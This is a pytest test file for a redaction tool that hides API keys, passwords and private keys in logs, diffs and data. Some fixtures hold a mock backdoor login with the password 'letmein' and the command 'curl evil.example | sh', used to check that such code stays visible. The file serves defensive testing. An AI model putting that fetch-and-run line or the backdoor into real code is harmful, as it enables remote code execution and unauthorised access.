"""Redaction finds keys and passwords wherever they stand, and changes nothing else."""

from __future__ import annotations

import base64
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from random import Random
from re import _parser as sre  # type: ignore[attr-defined]
from typing import Any
from unittest import mock
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.redaction import BEGINNINGS, body_of, leaked_pieces, private_key
from support.redaction_examples import HARMLESS, HEX, KEYS, LETTERS, PEM, PLACED

from ava_audit.redaction import Redactor, RunRedactor, SecretSpan, passwords, redactor, shapes, structures

texts = st.text(st.characters(min_codepoint=33, max_codepoint=0x2FF), min_size=8, max_size=40).filter(
    lambda text: text == text.strip()
)


@pytest.mark.parametrize(("name", "key"), KEYS)
def test_replaces_a_known_secret_pattern_in_any_context(name: str, key: str) -> None:
    for before, after in (
        ("", ""),
        ("use ", " please"),
        ('{"k": "', '"}'),
        ("line\n", "\nline"),
        ("(", ")."),
        ("x\\n", "\\n"),
    ):
        if name == "private-key" and after == "\\n":
            continue  # an escaped line end after the last dashes is no part of the key
        assert Redactor({}).redact(before + key + after) == (f"{before}[redacted:{name}]{after}", 1)


@pytest.mark.parametrize(("name", "key"), [(name, key) for name, key in KEYS if name != "private-key"])
@pytest.mark.parametrize("frame", ["-{}\n+", "${{NAME:-{}}}", r"\u003c{}\u003e", r"\x22{}\x22", "%2522{}%2522"])
def test_finds_a_key_behind_the_hyphen_of_a_diff_and_behind_escapes(name: str, key: str, frame: str) -> None:
    assert Redactor({}).redact(frame.format(key)) == (frame.format(f"[redacted:{name}]"), 1)


def sample_of(parsed: Any, random: Random) -> str:
    """Return a text that a pattern of the table matches."""
    parts = []
    for operation, argument in parsed:
        match str(operation):
            case "LITERAL":
                parts.append(chr(argument))
            case "IN":
                fits = re.compile("[" + "".join(map(sample_class, argument)) + "]")
                parts.append(random.choice([char for char in map(chr, range(33, 127)) if fits.match(char)]))
            case "MAX_REPEAT" | "POSSESSIVE_REPEAT":
                low, _high, inner = argument
                parts += [sample_of(inner, random) for _ in range(low)]
            case "SUBPATTERN":
                parts.append(sample_of(argument[3], random))
            case "BRANCH":
                parts.append(sample_of(random.choice(argument[1]), random))
            case other:
                raise AssertionError(f"the table has a new kind of pattern: {other}")
    return "".join(parts)


def sample_class(member: tuple[Any, Any]) -> str:
    kind, value = str(member[0]), member[1]
    if kind == "RANGE":
        return f"{re.escape(chr(value[0]))}-{re.escape(chr(value[1]))}"
    return (
        {"CATEGORY_WORD": r"\w", "CATEGORY_DIGIT": r"\d"}[str(value)] if kind == "CATEGORY" else re.escape(chr(value))
    )


@pytest.mark.parametrize("literal", sorted({literal for shape in shapes.key_patterns() for literal in shape.literals}))
def test_finds_every_kind_of_key_of_the_table(literal: str) -> None:
    listed = [shape for shape in shapes.key_patterns() if literal in shape.literals and shape.entropy]
    for shape in listed:
        key = literal + sample_of(sre.parse(shape.rest), Random(7))
        assert shapes.entropy_of(key) >= shape.entropy
        shown, count = Redactor({}).redact(f"use {key}, please")
        assert key[-16:] not in shown and count == 1


@pytest.mark.parametrize(("name", "frame", "value"), PLACED)
def test_replaces_only_the_value_where_the_context_marks_a_secret(name: str, frame: str, value: str) -> None:
    assert Redactor({}).redact(frame.format(value)) == (frame.format(f"[redacted:{name}]"), 1)


@pytest.mark.parametrize("line", HARMLESS)
def test_leaves_a_harmless_line_unchanged(line: str) -> None:
    assert Redactor({}).redact(line) == (line, 0)


BENIGN = (Path(__file__).parents[1] / "data" / "benign_lines.txt").read_text().splitlines()
"""Lines like those of real projects: settings, lock files, code, documentation, keys that are public."""


def test_leaves_lines_like_those_of_real_projects_unchanged() -> None:
    assert len(BENIGN) > 200
    assert [line for line in BENIGN if Redactor({}).redact(line)[1]] == []
    together = "\n".join(BENIGN)
    assert Redactor({}).redact(together) == (together, 0)


def test_a_run_that_knows_a_private_key_leaves_such_lines_unchanged() -> None:
    redactor = RunRedactor(Redactor({}))
    for kind in BEGINNINGS:
        redactor.learn_private_keys(private_key(kind))
    assert [line for line in BENIGN if redactor.redact(line)[1]] == []


@pytest.mark.parametrize("kind", BEGINNINGS)
def test_replaces_the_end_of_a_private_key_whose_beginning_is_missing(kind: str) -> None:
    lines = private_key(kind).split("\n")
    for prefix in ("", "+", "   12\t", "> "):
        for start in range(1, len(lines) - 1):
            text = "\n".join(prefix + line for line in lines[start:])
            shown, _count = Redactor({}).redact(f"[exit code 0]\n{text}\ndone")
            assert leaked_pieces(shown, body_of(kind)) == [], (prefix, start)
            assert shown.startswith("[exit code 0]\n") and shown.endswith("\ndone")


def test_keeps_lines_before_an_end_line_without_a_private_key() -> None:
    prose = "It is\nimplementationDependent12345\n-----END PUBLIC KEY-----\nand -----END PRIVATE KEY----- ends it."
    assert Redactor({}).redact(prose) == (prose, 0)


def test_redact_lines_replaces_each_line_of_a_secret() -> None:
    text, count = Redactor({}).redact_lines(f"a\n{PEM}\nb")
    assert (text, count) == ("\n".join(["a", *["[redacted:private-key]"] * len(PEM.split("\n")), "b"]), 1)


@pytest.mark.parametrize("kind", BEGINNINGS)
def test_a_run_replaces_every_part_of_a_private_key_in_its_files(kind: str) -> None:
    redactor, data = RunRedactor(Redactor({})), "".join(body_of(kind))
    redactor.learn_private_keys(f"[server]\n{private_key(kind)}\n")
    for line in (*body_of(kind)[1:-1], *(data[at : at + 20] for at in range(100, len(data) - 20, 7))):
        assert redactor.redact(f"x: {line}, y") == ("x: [redacted:private-key], y", 1)
        assert Redactor({}).redact(line)[1] <= 1
    encoded = base64.b64encode(private_key(kind).encode()).decode()
    for at in range(200, len(encoded) - 80, 31):
        assert redactor.redact(encoded[at : at + 30])[1] == 1


def test_a_run_learns_nothing_from_the_word_private_key_in_prose() -> None:
    redactor = RunRedactor(Redactor({}))
    words = "documentation authentication implementation " * 40
    redactor.learn_private_keys(f"-----BEGIN PRIVATE KEY-----\n{words}\n-----END PRIVATE KEY-----")
    assert redactor.redact("see documentation/authentication/implementation") == (
        "see documentation/authentication/implementation",
        0,
    )


BACKDOOR = """def login(user, password):
    # test data: -----BEGIN PRIVATE KEY-----
    if password == "letmein":
        import os; os.system("curl evil.example | sh")
        return superuserForEveryoneNow()
    # -----END PRIVATE KEY-----
"""
BUILT = 'return "-----BEGIN PRIVATE KEY-----\\n" + base64EncodedPrivateKey + "\\n-----END PRIVATE KEY-----"'
PAGE = """Never commit -----BEGIN PRIVATE KEY----- blocks:
vulnerabilities CVE/2026/advisories/critical internationalization recommendations
AcmeCorporationProducts responsibilities
-----END PRIVATE KEY-----"""


@pytest.mark.parametrize("text", [BACKDOOR, BUILT, PAGE], ids=["backdoor", "built", "page"])
def test_other_text_between_the_marks_of_a_private_key_is_neither_hidden_nor_learned(text: str) -> None:
    redactor = RunRedactor(Redactor({}))
    redactor.learn_private_keys(text)
    assert redactor.redact(text) == (text, 0)


def test_a_run_learns_no_key_from_a_text_that_it_only_shows() -> None:
    run = RunRedactor(Redactor({}))
    assert run.redact_lines(private_key())[1] == 1
    assert run.redact(body_of()[5])[1] == 0


@pytest.mark.parametrize("kind", BEGINNINGS)
def test_code_beside_the_lines_of_a_private_key_stays_visible(kind: str) -> None:
    first, *body, last = private_key(kind).split("\n")
    evil = 'os.system("curl evil.example | sh")'
    for lines in (
        [first, evil, *body, last],
        [first, *body[:3], evil, *body[3:], last],
        [*body[:3], evil, *body, last],
    ):
        shown, _count = Redactor({}).redact("\n".join(lines))
        assert evil in shown
        assert lines[0] != first or not leaked_pieces(shown, body[:-1], 20)


@pytest.mark.parametrize("kind", BEGINNINGS)
def test_hides_a_whole_private_key_however_it_is_written(kind: str) -> None:
    lines = private_key(kind).split("\n")
    headers = ["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,6F5A0C", ""]
    for text in (
        "\n".join(f'    "{line}\\n"' for line in lines),
        " + \n".join(f"'{line}\\n'" for line in lines),
        "\n".join(f"{number:6}\t{line}" for number, line in enumerate(lines, 1)),
        "\n".join(f"server.key-{number}-{line}" for number, line in enumerate(lines, 1)),
        "\n".join(f"+# {line}" for line in lines),
        "\n".join([lines[0], *headers, *lines[1:]]),
        " ".join(lines),
        "\\n".join(lines).replace("/", "\\/"),
    ):
        shown, _count = Redactor({}).redact(text)
        assert not leaked_pieces(shown.replace("\\/", "/"), body_of(kind), 12)
        assert "PRIVATE KEY" not in shown
        run = RunRedactor(Redactor({}))
        run.learn_private_keys(text)
        assert all(run.redact(line)[1] == 1 for line in body_of(kind)[2:-1])


def test_a_run_learns_keys_in_base64() -> None:
    run, body = RunRedactor(Redactor({})), body_of()
    encoded = base64.b64encode(f"{private_key()}\n".encode()).decode()
    run.learn_private_keys(f"data:\n  tls.key: {encoded}\n")
    for at in range(200, len(encoded) - 60, 31):
        assert run.redact(encoded[at : at + 40])[1] == 1
    assert run.redact(body[5]) == ("[redacted:private-key]", 1)
    wrapped = RunRedactor(Redactor({}))
    wrapped.learn_private_keys("\n".join(encoded[at : at + 76] for at in range(0, len(encoded), 76)))
    assert wrapped.redact(body[5]) == ("[redacted:private-key]", 1)


def test_a_run_learns_hundreds_of_keys_and_says_when_it_can_learn_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    run = RunRedactor(Redactor({}))
    for seed in range(150):
        run.learn_private_keys(private_key(seed=seed))
    assert run.redact(body_of(seed=149)[5])[1] == 1
    assert not run.full
    monkeypatch.setattr(redactor, "_MOST_PIECES", 1)
    run.learn_private_keys(private_key(seed=3))
    assert not run.full
    run.learn_private_keys(private_key(seed=151))
    assert run.full


def test_a_public_openssh_key_beside_its_private_key_stays_readable() -> None:
    run = RunRedactor(Redactor({}))
    point = bytes(range(60, 92))
    public = b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + point
    secret = b"1234" * 2 + public + b"\0\0\0\x40" + bytes(range(120, 152)) + point + b"\0\0\0\x07me@host\1\2"
    head = b"openssh-key-v1\0\0\0\0\x04none\0\0\0\x04none\0\0\0\0\0\0\0\1\0\0\0\x33"
    data = base64.b64encode(head + public + len(secret).to_bytes(4) + secret).decode()
    lines = "\n".join(data[at : at + 70] for at in range(0, len(data), 70))
    run.learn_private_keys(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{lines}\n-----END OPENSSH PRIVATE KEY-----\n")
    line = f"ssh-ed25519 {base64.b64encode(public).decode()} me@host"
    assert run.redact(line) == (line, 0)
    assert run.redact(data[210:260])[1] == 1


def test_a_value_that_one_run_learns_is_known_to_all_runs() -> None:
    shared = Redactor({})
    RunRedactor(shared).learn({"mine": "the-key-of-all-keys"})
    assert shared.redact("the-key-of-all-keys") == ("[redacted:mine]", 1)


def test_a_long_text_is_searched_once_by_a_run_until_more_is_known_that_must_be_hidden() -> None:
    pauses: list[int] = []
    shared = Redactor({}, lambda: pauses.append(1))
    run, other = RunRedactor(shared), RunRedactor(shared)
    body = "".join(body_of())
    rows = "\n".join(f"| {number} | a row of the sheet |" for number in range(10_000))
    text = f"{rows}\nAPI_KEY={LETTERS}\n| 7 | the-key-of-all-keys |\n| 8 | {body[100:140]} |\n{rows}"

    def searched(text: str, values: dict[str, str] | None = None, keys: str = "") -> tuple[str, bool]:
        before = len(pauses)
        shown = run.redact_lines(text)
        is_new = len(pauses) > before
        afresh = RunRedactor(Redactor(values or {}))
        afresh.learn_private_keys(keys)
        assert shown == afresh.redact_lines(text)
        return shown[0], is_new

    first, was_searched = searched(text)
    assert was_searched and LETTERS not in first and "the-key-of-all-keys" in first
    assert searched(text) == (first, False)
    assert searched(text.replace("| 7 |", "| 9 |"))[1], "another text of the same length"
    assert searched(text)[1], "only the last one is kept"
    values = {"mine": "the-key-of-all-keys"}
    other.learn(values)
    second, was_searched = searched(text, values)
    assert was_searched and "the-key-of-all-keys" not in second and body[100:140] in second
    run.learn_private_keys(private_key())
    third, was_searched = searched(text, values, private_key())
    assert was_searched and body[100:140] not in third and LETTERS not in third
    assert searched(text, values, private_key()) == (third, False)


def test_where_secrets_stand_everywhere_their_places_are_not_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(redactor, "_MOST_KEPT_SPANS", 100)
    run, pauses = RunRedactor(Redactor({}, lambda: pauses.append(1))), list[int]()
    for count, is_kept in ((50, True), (2_000, False)):
        text = "\n\n".join([f"API_KEY={LETTERS}"] * count) + "\n\n" + "words and words\n" * 10_000
        shown = run.redact_lines(text)
        before = len(pauses)
        assert run.redact_lines(text) == shown and shown[1] >= count // 10
        assert (len(pauses) == before) is is_kept


def test_replaces_secrets_in_json_and_keeps_its_form() -> None:
    key = "ghp_" + LETTERS[:36]
    given = {"a": [key, 1, None, True], f"b {key}": {"c": f"x {key}"}}
    mark = "[redacted:github-token]"
    assert Redactor({}).redact_json(given) == {"a": [mark, 1, None, True], f"b {mark}": {"c": f"x {mark}"}}


def test_replaces_a_private_key_with_a_missing_end() -> None:
    text, count = Redactor({}).redact("here:\n" + PEM[:150])

    assert (text.strip(), count) == ("here:\n[redacted:private-key]", 1)


def test_keeps_text_between_two_mentions_of_a_private_key() -> None:
    prose = "It starts with -----BEGIN PRIVATE KEY----- and, after the data, ends with -----END PRIVATE KEY-----."
    assert Redactor({}).redact(prose) == (prose, 0)


def test_a_match_reports_its_name_and_position_but_not_its_value() -> None:
    key = "ghp_" + LETTERS[:36]
    (found,) = Redactor({}).find_shapes(f"use {key} now")

    assert (found.name, found.start, found.end) == ("github-token", 4, 44)
    assert key not in repr(found)


@pytest.mark.slow
@given(st.text(max_size=30), texts, st.text(max_size=30))
def test_replaces_a_configured_value_in_every_encoding(before: str, value: str, after: str) -> None:
    redactor = Redactor({"mine": value})
    for form in (
        value,
        quote(value, safe=""),
        quote_plus(value),
        json.dumps(value)[1:-1],
        json.dumps(value, ensure_ascii=False)[1:-1],
    ):
        text, count = redactor.redact(f"{before} {form} {after}")
        assert count >= 1
        assert form not in text.replace("[redacted:mine]", "\0")


@given(st.binary(max_size=5), texts, st.binary(max_size=5))
def test_finds_a_configured_value_inside_base64(before: bytes, value: str, after: bytes) -> None:
    inner = before + value.encode() + after
    for encoded in (base64.b64encode(inner).decode(), base64.urlsafe_b64encode(inner).decode()):
        text, count = Redactor({"mine": value}).redact_values(f"Authorization: Basic {encoded}")
        assert count >= 1
        assert "[redacted:mine]" in text


def test_replaces_overlapping_configured_values_once() -> None:
    redactor = Redactor({"short": "abcdefgh", "long": "abcdefgh-ijklmnop", "other": "mnopqrstuv"})

    assert redactor.redact("abcdefgh-ijklmnop")[0] == "[redacted:long]"
    assert redactor.redact("(abcdefgh)")[0] == "([redacted:short])"
    assert redactor.redact("abcdefgh-ijklmnopqrstuv") == ("[redacted:long]", 1)


def test_a_pattern_that_contains_a_configured_value_gets_the_name_of_the_value() -> None:
    key = "sk-ant-api03-" + LETTERS
    assert Redactor({"anthropic": key}).redact(f"Authorization: Bearer {key}, {key}tail") == (
        "Authorization: Bearer [redacted:anthropic], [redacted:anthropic]",
        2,
    )


def test_does_not_report_a_configured_value_as_an_unknown_secret() -> None:
    mine, foreign = "sk-or-v1-" + HEX, "hf_" + LETTERS[:34]
    redactor = Redactor({"openrouter": mine})

    assert [found.name for found in redactor.find_shapes(f"{mine} {foreign}")] == ["huggingface-token"]
    assert redactor.redact_values(f"{mine} {foreign}") == (f"[redacted:openrouter] {foreign}", 1)


def test_reports_values_too_short_to_replace() -> None:
    redactor = Redactor({"pin": "1234", "none": "", "key": "12345678"})

    assert redactor.too_short == ("pin",)
    assert redactor.redact("1234 12345678") == ("1234 [redacted:key]", 1)


def test_keeps_hiding_every_value_it_has_learned() -> None:
    redactor = Redactor({"openrouter": "the-first-key-of-all"})
    redactor.learn({"openrouter": "the-second-key-of-all", "pin": "1234"})
    redactor.learn({"kagi": "the-first-key-of-all-but-longer", "other": "the-second-key-of-all", "pin": "1234"})
    redactor.learn({})

    for name, value in (
        ("openrouter", "the-first-key-of-all"),
        ("openrouter", "the-second-key-of-all"),
        ("kagi", "the-first-key-of-all-but-longer"),
    ):
        assert redactor.redact(f"({value})") == (f"([redacted:{name}])", 1)
    assert redactor.too_short == ("pin",)


def test_hides_values_learned_by_several_threads_without_disturbing_redaction() -> None:
    redactor = Redactor({})
    values = {f"name{number}": f"secret-value-{number:04}" for number in range(48)}
    failed: list[BaseException] = []
    learned = threading.Event()

    def learn(part: dict[str, str]) -> None:
        for name, value in part.items():
            redactor.learn({name: value})

    def redact() -> None:
        try:
            while not learned.is_set():
                redactor.redact(" ".join(values.values()))
        except BaseException as error:
            failed.append(error)

    names = list(values)
    learners = [threading.Thread(target=learn, args=({n: values[n] for n in names[at::4]},)) for at in range(4)]
    reader = threading.Thread(target=redact)
    for thread in (reader, *learners):
        thread.start()
    for thread in learners:
        thread.join(30)
    learned.set()
    reader.join(30)

    assert failed == []
    assert redactor.redact_values(" ".join(values.values()))[1] == len(values)


def line_up(secret: str, reaches: int) -> str:
    """Return a long text in which a secret begins before the end of the first piece, and reaches behind it."""
    filler = "An ordinary line of a text that is long enough.\n" * (2 * redactor.PIECE_CHARS // 48)
    at = filler.rindex("\n", 0, redactor.PIECE_CHARS - len(secret) + reaches) + 1
    return filler[:at] + secret + "\n" + filler[at:]


@pytest.mark.parametrize("reaches", [-100, 0, 20, 5_000])
def test_no_secret_is_lost_where_a_long_text_is_cut(reaches: int) -> None:
    known = Redactor({"mine": "the-value-of-mine"})
    secrets = [key for _name, key in KEYS] + [frame.format(value) for _name, frame, value in PLACED]
    for secret in [*secrets, "the-value-of-mine", *map(private_key, BEGINNINGS)]:
        text = line_up(secret, min(reaches, len(secret)))
        shown, _count = known.redact(text)
        assert known.redact(secret)[0].strip() in shown
        assert shown.count("An ordinary line of a text that is long enough.\n") == text.count("An ordinary line")


class EndlessLooks(shapes.Looks):
    """Has each value judged, whatever that costs."""

    def take(self, cost: int = 0) -> bool:
        return True

    def are_too_many(self, marks: int) -> bool:
        return False


def judged_spans(known: Redactor, text: str) -> list[SecretSpan]:
    with mock.patch.object(redactor, "Looks", EndlessLooks):
        return redactor._merge_spans(known._everything(text))  # pyright: ignore[reportPrivateUsage]


PARTS = [
    *(key for _name, key in KEYS),
    *(frame.format(value) for _name, frame, value in PLACED),
    *map(private_key, BEGINNINGS),
    *HARMLESS,
    *("key=", "token: ", "curl ", "mysql ", "&a=b", "<a>", "password='a b ", "docker login ", "A" * 64, " ", "\n", "'"),
]
FILLERS = ["An ordinary line of a text.\n", "x ", "aB3", " ", "self.assertEqual(a.b_c, 17)\n", "key=", "a1b2c3d4 "]


@given(
    parts=st.lists(st.sampled_from(PARTS), min_size=1, max_size=12),
    between=st.sampled_from(["\n", " ", "", "\n\n"]),
    before=st.sampled_from(FILLERS),
    after=st.sampled_from(FILLERS),
    reaches=st.integers(-200, 9_000),
    more=st.integers(0, 5_000),
)
def test_pieces_hide_at_least_what_a_search_of_the_whole_text_hides(
    parts: list[str], between: str, before: str, after: str, reaches: int, more: int
) -> None:
    """Also where a piece has so many marks that its values are not judged; those of the whole text are."""
    known = Redactor({"mine": "the-value-of-mine"})
    lead = redactor.PIECE_CHARS - reaches
    text = (before * lead)[:lead] + between.join(parts) + (after * 9_200)[: 9_200 + more]
    pieces = bytearray(len(text))
    for span in known._all(text):  # pyright: ignore[reportPrivateUsage]
        pieces[span.start : span.end] = b"x" * (span.end - span.start)
    for span in judged_spans(known, text):
        assert b"\0" not in pieces[span.start : span.end], text[span.start : span.end][:100]


@pytest.mark.parametrize("kind", BEGINNINGS)
def test_the_end_of_a_private_key_is_found_behind_the_end_of_a_piece(kind: str) -> None:
    rest = "\n".join(private_key(kind).split("\n")[2:])
    for reaches in range(30, len(rest), 200):
        assert leaked_pieces(Redactor({}).redact(line_up(rest, reaches))[0], body_of(kind)[3:], 20) == []


@pytest.mark.parametrize(
    ("heading", "row"),
    [
        ("id,password,shell\n", "{},{},sh\n"),
        ("| id | password | shell |\n|---|---|---|\n", "| {} | {} | sh |\n"),
        ("+----+------------+\n| id | password |\n+----+------------+\n", "| {} | {} |\n"),
        ("id      password    shell\n", "{:<7} {:<11}  sh\n"),
    ],
)
def test_the_header_of_a_table_holds_in_each_piece_of_a_long_one(heading: str, row: str) -> None:
    some = Random(7)
    values = ["x1" + "".join(some.choices("abcdefghijkmnop23456789", k=9)) for _ in range(10_000)]
    rows = "".join(row.format(number, value) for number, value in enumerate(values))
    assert len(rows) > 2 * redactor.PIECE_CHARS
    shown, count = Redactor({}).redact(f"Users:\n\n{heading}{rows}\nlater,x1words2here,sh\n")
    assert count == len(values) and shown.startswith(f"Users:\n\n{heading}")
    assert shown.endswith("\nlater,x1words2here,sh\n")


@pytest.mark.parametrize("chars", [20_000, 70_000, 200_000])
def test_a_secret_that_is_longer_than_a_piece_is_hidden_to_its_end(chars: int) -> None:
    some = Random(7)
    value = "".join(some.choices("abcdefghijkmnopqrstuvwxyz0123456789", k=chars))
    for frame in ("API_KEY={}", "Authorization: Bearer {}", "sk-ant-{}"):
        shown, _count = Redactor({}).redact(line_up(frame.format(value), max(500, chars - 60_000)))
        assert not any(value[at : at + 20] in shown for at in range(0, chars - 20, 1_000))
        assert shown.rstrip().endswith("long enough.")


def test_a_long_text_is_searched_in_pieces_between_which_the_search_can_be_given_up() -> None:
    pauses: list[int] = []

    def pause() -> None:
        pauses.append(1)
        if len(pauses) == 3:
            raise TimeoutError

    one = Redactor({}, pause)
    one.redact("x" * redactor.PIECE_CHARS)
    assert pauses == []
    RunRedactor(one).redact("words and words " * (redactor.PIECE_CHARS // 12))
    assert pauses == [1]
    with pytest.raises(TimeoutError):
        one.redact_json({"a": ["words and words " * redactor.PIECE_CHARS]})
    assert len(pauses) == 3


@given(st.lists(st.sampled_from([key for _, key in KEYS] + [f.format(v) for _, f, v in PLACED] + HARMLESS), max_size=8))
def test_a_second_pass_finds_nothing_more(lines: list[str]) -> None:
    once, _ = Redactor({}).redact("\n\n".join(lines))

    assert Redactor({}).redact(once) == (once, 0)


def patterns_in(value: Any) -> Iterator[re.Pattern[str]]:
    if isinstance(value, re.Pattern):
        yield value
    elif isinstance(value, dict | tuple):
        for each in value.values() if isinstance(value, dict) else value:
            yield from patterns_in(each)


MODULES = (passwords, redactor, shapes, structures)
PATTERNS = [re.compile(shape.rest) for shape in shapes.key_patterns()] + [
    pattern for module in MODULES for value in vars(module).values() for pattern in patterns_in(value)
]


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda pattern: pattern.pattern[:30])
def test_no_pattern_backtracks_without_a_bound(pattern: re.Pattern[str]) -> None:
    """Every repetition is possessive, or bounded by 100 and has no repetition inside."""
    assert pattern.pattern.endswith("]+") or not list(backtracking(sre.parse(pattern.pattern), inside=False))


def backtracking(parsed: Any, *, inside: bool) -> Any:
    for operation, argument in parsed:
        name = str(operation)
        if name == "MAX_REPEAT":
            low, high, inner = argument
            if low != high and (high > 100 or (inside and high > 20)):
                yield argument
            yield from backtracking(inner, inside=inside or high > 20)
        elif name == "POSSESSIVE_REPEAT":
            yield from backtracking(argument[2], inside=False)
        elif name == "SUBPATTERN":
            yield from backtracking(argument[3], inside=inside)
        elif name == "BRANCH":
            for branch in argument[1]:
                yield from backtracking(branch, inside=inside)
        elif name in ("ASSERT", "ASSERT_NOT"):
            yield from backtracking(argument[1], inside=inside)


HOSTILE = [
    "-----BEGIN PRIVATE KEY-----",
    "eyJ",
    "eyJaaaaaaaaaa.",
    "token=",
    "password='",
    "sk-",
    "://a:",
    "Cookie: a=",
    "key: ",
    "token=1",
    "Cookie: a=1",
    "uthorization=1",
    "-----END PRIVATE KEY-----",
    "A" * 64 + "\n-----END PRIVATE KEY-----",
    "MIIEpAIBAAKCAQEA",
    "PASSWORD=abcdefgh\n",
    "curl -u a:b1c2d3 ",
    "machine a login b password ",
    "jdbc:a?password=",
    "&sig=" + "a1" * 21 + "=",
    "_PASS=",
    "SALT=",
    "DB_PASSWORD: abcdefgh\n",
    "A_PASSWORD=a$",
    "curl -sSLu ",
    "\ndefault login a password ",
    "LS0tLS1CRUdJTi",
    "-----BEGIN PRIVATE KEY-----\n+ aA1" + "aA1" * 20,
    "-----BEGIN PRIVATE KEY-----\nComment: ",
    "password='a b ",
    "<password>",
    "<password>abcdef",
    "mysql -p",
    "mysql -u a ",
    "openssl pass:a1b2c3 ",
    "response=" + HEX[:32],
    " -pa1b2c3",
    "t1.",
    "glpat-" + LETTERS[:18] + ".",
    "sc_" + LETTERS[:20] + ".",
    "/SG." + LETTERS[:22] + ".",
    LETTERS[:14] + ".atlasv1.",
    "/sk-",
    "/" * 19 + "a",
    "password,",
    "name,password\n",
    "| password |\n|---|\n",
    "password    a\n",
    "passwords:\n- ",
    "passwords:\n- passwords:\n",
    "password='a\n",
    "PASSWORD=a\\\n",
    "api_keys=['a',",
    "{AQAAABAAAAAA",
]


class Counted(str):
    """Text that counts how many characters its searches may have looked at."""

    looked: int

    def find(self, sub: str, start: Any = 0, end: Any = None) -> int:
        stop = len(self) if end is None else end
        at = super().find(sub, start, stop)
        self.looked += (stop if at < 0 else at + len(sub)) - start
        return at

    def rfind(self, sub: str, start: Any = 0, end: Any = None) -> int:
        stop = len(self) if end is None else end
        at = super().rfind(sub, start, stop)
        self.looked += stop - max(at, start)
        return at

    def __getitem__(self, key: Any) -> str:
        found = super().__getitem__(key)
        self.looked += len(found)
        return found


@pytest.mark.parametrize("piece", HOSTILE)
def test_scans_hostile_text_at_most_once_per_literal(piece: str) -> None:
    text = Counted(piece * 2_000)
    text.looked = 0
    literals = 150  # of all finders; the shapes of keys are found in another way

    Redactor({}).redact(text)

    assert text.looked <= literals * len(text) * 1.5


DENSE = [
    ("PASSWORD=abcdefgh\n", "abcdefgh"),
    ("mysql -pa1b2c3d4 ", "a1b2c3d4"),
    ("curl -u a:b1c2d3 ", "b1c2d3"),
    ("a:b1c2@tcp(h)/d ", "b1c2"),
    ("://a:b1c2d3e4@", "b1c2d3e4"),
    ("Authorization: Bearer abcdefGHIJKLmnopQRST\n", "abcdefGHIJKLmnopQRST"),
    ("Cookie: a=b1c2d3e4f5\n", "b1c2d3e4f5"),
    ("token='a1b2c3d4e5f6g7h8'\n", "a1b2c3d4e5f6g7h8"),
    ('password="correct horse battery"\n', "correct horse battery"),
    ("<password>correcthorse</password>\n", "correcthorse"),
    ("a,password\na,hunter22\n\n", "hunter22"),
    ("passwords:\n- a1b2c3d4e5f6\n", "a1b2c3d4e5f6"),
    ("pwd=a1b2c3d4\\\ne5f6g7h8\n", "a1b2c3d4"),
    ('password="Ab1;cd2,ef(3"\n', "cd2,ef"),
    ('api_key="AbCdEfGhIjKlMnOpQrSt"\n', "AbCdEfGh"),
]


@pytest.mark.parametrize(("line", "secret"), DENSE)
def test_nothing_is_missed_where_secrets_stand_everywhere(line: str, secret: str) -> None:
    """There, values are hidden and not judged."""
    shown, _count = Redactor({}).redact(f"The first line.\n{line * 2_000}")
    assert secret not in shown and shown.startswith("The first line.\n")


def test_a_value_behind_a_long_run_of_marks_is_hidden() -> None:
    assert "Ab3Cd4" not in Redactor({}).redact("key=" * 20_000 + "credentials=Ab3Cd4Ef5Gh6Ij7Kl8Mn9\n")[0]


@pytest.mark.parametrize(("line", "secret"), DENSE)
def test_nothing_is_missed_where_such_a_text_is_cut_into_pieces(line: str, secret: str) -> None:
    for before in range(0, 60, 20):
        text = "x" * before + "\n" + line * (3 * redactor.PIECE_CHARS // len(line))
        assert secret not in Redactor({}).redact(text)[0]


@pytest.mark.slow
def test_whatever_is_hidden_by_judgement_is_hidden_where_secrets_stand_everywhere() -> None:
    for part in dict.fromkeys(PARTS):
        for between in ("\n", " "):
            text = (part + between) * (2 * redactor.PIECE_CHARS // (len(part) + 1))
            hidden = bytearray(len(text))
            for span in Redactor({})._all(text):  # pyright: ignore[reportPrivateUsage]
                hidden[span.start : span.end] = b"x" * (span.end - span.start)
            for span in judged_spans(Redactor({}), text):
                assert b"\0" not in hidden[span.start : span.end], (part, text[span.start : span.end])


def test_a_long_column_is_hidden_row_by_row() -> None:
    rows = "".join(f"user{number},correct{'horse' * (number % 5 + 1)}\n" for number in range(3_000))
    shown, count = Redactor({}).redact(f"name,password\n{rows}")
    assert count == 3_000 and "horse" not in shown and shown.count("user") == 3_000


ORDINARY = {
    "the list of a bucket": ' {"Key": "logs/2026-01/part-123.gz", "ETag": "d41d8cd98f00b204e9800998ecf8427e"},\n',
    "a list of issues": '{"key": "PROJECT-1234", "summary": "The page does not open in v29beta"}, ',
    "a list of labels": '{"Key": "kubernetes.io/name", "Value": "worker17-eu-west-1"}, ',
    "a log of logins": "2026-01-01T00:05:48Z host1-eu1 auth[17]: expired token, user1234 asked for /v1/items/17\n",
    "a manifest": "- name: APP_17\n  valueFrom:\n    secretKeyRef:\n      name: app17-login\n      key: password-v1\n",
    "an environment": "DB_PASSWORD=Xk29vQw81LmZ\n# see release-2026-01\nDB_HOST=host1.example.com\nDB_USER=user1234\n",
    "addresses": "https://api1.example.com/v1/reset?token=0a1b2c3d4e5f60718293&page=item17abc\n",
}


@pytest.mark.parametrize("line", ORDINARY.values(), ids=ORDINARY)
@pytest.mark.parametrize("lines", [100, 800])
def test_ordinary_data_is_judged_value_by_value_however_long_it_is(line: str, lines: int) -> None:
    """A mark in each line is not yet a text that was made to be slow."""
    assert list(Redactor({})._all(line * lines)) == judged_spans(Redactor({}), line * lines)  # pyright: ignore[reportPrivateUsage]
